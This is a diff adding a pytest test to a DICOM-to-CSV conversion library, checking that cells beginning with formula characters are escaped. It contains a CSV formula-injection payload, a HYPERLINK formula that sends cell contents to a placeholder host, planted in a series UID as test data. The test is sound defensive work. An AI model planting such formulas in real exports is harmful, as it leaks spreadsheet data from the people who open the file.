@@ -8,7 +8,7 @@ import pytest
 import tifffile
 from PIL import Image
 
-from pyconv_monai.writers import mask_suffix, write_csv, write_nifti_mask, write_png_mask, write_tiff_mask
+from pyconv_monai.writers import escape_cell, mask_suffix, write_csv, write_nifti_mask, write_png_mask, write_tiff_mask
 
 
 def test_nifti_mask_has_the_image_affine(shared_data, tmp_path):
@@ -82,3 +82,28 @@ def test_csv(tmp_path):
     assert lines[1].split(",")[0] == "a" and "0.333333" in lines[1] and lines[2].startswith("b,")
     with pytest.raises(FileExistsError):
         write_csv([], path)
+
+
+def test_csv_escapes_formulas_from_a_real_series(shared_data, tmp_path):
+    """A SeriesInstanceUID ``=HYPERLINK(...)`` (a hostile header of a copy of a real series) reaches volumes.csv
+    with a leading ``'``, so a spreadsheet shows it as text; numbers (negative ones too) stay numbers."""
+    import csv
+
+    from pyconv_monai.data import find_cases
+    from tests.dicom_copies import copy_series
+
+    evil = '=HYPERLINK("http://x.invalid/?"&A1,"click")'
+    copy_series(shared_data / "ct_dicom_dcmqi_3slice" / "dicom", tmp_path / "in", series_uid=evil)
+    (case,) = find_cases(tmp_path / "in")
+    assert case["series_uid"] == evil
+    rows = [
+        {**case, "status": "ok", "message": "+1 slice", "slices": 3, "volume_ml": -1.5},
+        {"case": "@SUM(A1)", "message": "-3.5", "series_uid": "-2+3", "foreground_voxels": -4},
+    ]
+    with open(write_csv(rows, tmp_path / "volumes.csv"), newline="") as f:
+        first, second = list(csv.DictReader(f))
+    assert first["series_uid"] == "'" + evil and first["message"] == "'+1 slice"
+    assert first["slices"] == "3" and first["volume_ml"] == "-1.5"  # numbers are not formulas
+    assert second["case"] == "'@SUM(A1)" and second["series_uid"] == "'-2+3"
+    assert second["message"] == "-3.5" and second["foreground_voxels"] == "-4"
+    assert escape_cell("\tx") == "'\tx" and escape_cell("1.2.840.1") == "1.2.840.1" and escape_cell("-1e-3") == "-1e-3"
